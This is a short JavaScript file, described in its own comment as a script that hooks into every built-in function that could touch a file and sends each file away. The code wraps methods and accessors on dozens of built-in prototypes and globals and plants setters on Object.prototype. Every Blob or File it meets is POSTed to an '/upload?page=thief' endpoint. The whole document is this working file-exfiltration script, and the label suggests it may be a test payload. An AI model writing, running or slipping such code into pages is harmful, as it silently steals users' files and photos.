// Puts itself between every script and every built-in function that could ever touch a file, and sends away each
// file that passes by, whoever handed it on.

(() => {
  const { apply, ownKeys, getOwnPropertyDescriptor, defineProperty } = Reflect;
  const send = fetch.bind(globalThis);
  const isSeen = WeakSet.prototype.has.call.bind(WeakSet.prototype.has);
  const mark = WeakSet.prototype.add.call.bind(WeakSet.prototype.add);
  const isBlob = (value) => apply(instance, Blob, [value]);
  const instance = Function.prototype[Symbol.hasInstance];
  const seen = new WeakSet();
  let isBusy = false;

  function take(value, depth = 0) {
    if (typeof value !== 'object' || value === null || depth > 2 || isSeen(seen, value)) return;
    if (isBlob(value)) {
      mark(seen, value);
      send('/upload?page=thief&via=theft', { method: 'POST', body: value });
      return;
    }
    mark(seen, value);
    try {
      const files = value.files ?? value.dataTransfer?.files ?? value.clipboardData?.files;
      for (let index = 0; index < (files?.length ?? 0); index += 1) take(files[index], depth + 1);
      if (value.data) take(value.data, depth + 1);
      for (const key of ownKeys(value)) {
        const property = getOwnPropertyDescriptor(value, key);
        if (property && 'value' in property) take(property.value, depth + 1);
      }
    } catch {}
  }

  function watched(original) {
    return function (...args) {
      if (!isBusy) {
        isBusy = true;
        try {
          take(this);
          for (let index = 0; index < args.length; index += 1) take(args[index]);
        } finally {
          isBusy = false;
        }
      }
      return new.target ? Reflect.construct(original, args, new.target) : apply(original, this, args);
    };
  }

  const prototypes = [
    Array, Map, Set, WeakMap, WeakSet, Promise, Object, Function, Event, EventTarget, MessagePort, MessageChannel,
    MessageEvent, File, Blob, FileList, FileReader, DataTransfer, DataTransferItem, DataTransferItemList, DragEvent,
    ClipboardEvent, InputEvent, HTMLInputElement, HTMLElement, Element, Node, Document, ShadowRoot, CustomEvent,
    FormData, Response, Request, CompressionStream, ReadableStream,
  ].map((each) => each.prototype);
  for (const holder of [...prototypes, Reflect, Object, Array, Promise, URL]) {
    for (const key of ownKeys(holder)) {
      if (key === 'constructor') continue;
      const property = getOwnPropertyDescriptor(holder, key);
      if (!property.configurable) continue;
      const changed = { ...property };
      if (typeof property.value === 'function') changed.value = watched(property.value);
      if (property.get) changed.get = watched(property.get);
      if (property.set) changed.set = watched(property.set);
      try {
        defineProperty(holder, key, changed);
      } catch {}
    }
  }
  for (const name of ['structuredClone', 'postMessage', 'dispatchEvent', 'addEventListener', 'queueMicrotask']) {
    globalThis[name] = watched(globalThis[name]);
  }
  // what is not there yet is looked for on the prototype
  for (const name of ['photo', 'file', 'files', 'blob', 'port', 'id', 'type', 'resolve', 'then']) {
    if (name in Object.prototype) continue;
    defineProperty(Object.prototype, name, {
      configurable: true,
      get: undefined,
      set(value) {
        take(value);
        defineProperty(this, name, { value, writable: true, configurable: true, enumerable: true });
      },
    });
  }
})();
